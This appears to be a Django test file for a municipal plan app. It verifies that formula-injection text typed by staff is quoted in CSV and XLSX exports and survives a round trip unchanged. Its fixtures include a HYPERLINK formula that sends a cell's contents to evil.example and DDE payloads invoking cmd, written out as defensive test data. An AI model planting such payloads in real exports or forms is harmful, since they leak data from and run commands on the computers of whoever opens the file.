"""Text a spreadsheet would run, entered by staff, never reaches a download as a formula.

A note '=HYPERLINK(...)' entered as a figure's note must not run in the owner's
bulk template, the trail's CSV or the public downloads; and a template downloaded
and uploaded unchanged changes nothing.
"""

import csv
import io

from django.test import Client
from openpyxl import load_workbook

from machiplan.staff.models import AuditEvent, Entry
from machiplan.staff.services.people import user_add

from .conftest import PASSWORD, PLAN, edit_url, step_url
from .test_bulk import template, upload

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
SOURCE = "@SUM(A1)"
REASON = "-2+3+cmd|' /C calc'!A0"
COMMENT = "+cmd|' /C calc'!A0"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _entered(as_):
    editor = as_("editor")
    response = editor.post(
        edit_url("1b", 2017),
        {
            "kind": "actual",
            "value": "70.9",
            "note": NOTE,
            "data_source": SOURCE,
            "reason": REASON,
            "revision": "0",
        },
    )
    assert response.status_code == 302
    return editor


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _runs(cell: str) -> bool:
    return cell.startswith(RISKY) and not cell.lstrip("-").replace(".", "", 1).isdigit()


def test_the_bulk_template_csv_quotes_them_and_reads_back_unchanged(as_):
    editor = _entered(as_)
    content = template(editor, "csv")
    rows = _csv_cells(content)
    assert not [c for row in rows for c in row if _runs(c)]
    row = next(r for r in rows if r[0] == "1b")
    assert row[rows[0].index("備考")] == "'" + NOTE and row[rows[0].index("出典")] == "'" + SOURCE
    response = editor.post(upload(editor, content, name="figures.csv"), follow=True)
    assert "変更はありません。" in response.content.decode()
    entry = Entry.objects.get(indicator__code="1b", fy=2017)
    assert (entry.revision, entry.note, entry.data_source) == (1, NOTE, SOURCE)


def test_the_bulk_template_xlsx_keeps_them_as_text_not_formulas(as_):
    editor = _entered(as_)
    content = template(editor, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "1b")
    note, source = row[header.index("備考")], row[header.index("出典")]
    assert (note.value, note.data_type, source.value, source.data_type) == (NOTE, "s", SOURCE, "s")
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    response = editor.post(upload(editor, content), follow=True)
    assert "変更はありません。" in response.content.decode()
    assert Entry.objects.get(indicator__code="1b", fy=2017).revision == 1


def test_the_trails_csv_quotes_them(as_):
    editor = _entered(as_)
    editor.post(step_url("1b", 2017, "submit"), {"revision": "1"})
    owner = Client()
    owner.force_login(
        user_add(username="@mallory", role="owner", password=PASSWORD)
    )  # Django allows @ + - in names
    returned = owner.post(step_url("1b", 2017, "return"), {"revision": "2", "comment": COMMENT})
    assert returned.status_code == 302
    assert AuditEvent.objects.filter(comment=COMMENT, actor="@mallory").exists()
    rows = _csv_cells(owner.get(f"/staff/plans/{PLAN}/history/?format=csv").content)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _runs(c)]
    assert "'" + COMMENT in cells and "'@mallory" in cells


def test_the_public_indicator_csv_quotes_an_approved_note(as_, client):
    from django.core.cache import cache

    editor = _entered(as_)
    editor.post(step_url("1b", 2017, "submit"), {"revision": "1"})
    assert as_("owner").post(step_url("1b", 2017, "approve"), {"revision": "2"}).status_code == 302
    cache.clear()
    rows = _csv_cells(client.get(f"/plans/{PLAN}/indicators/1b/download.csv").content)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if _runs(c)]
    assert "'" + NOTE in cells
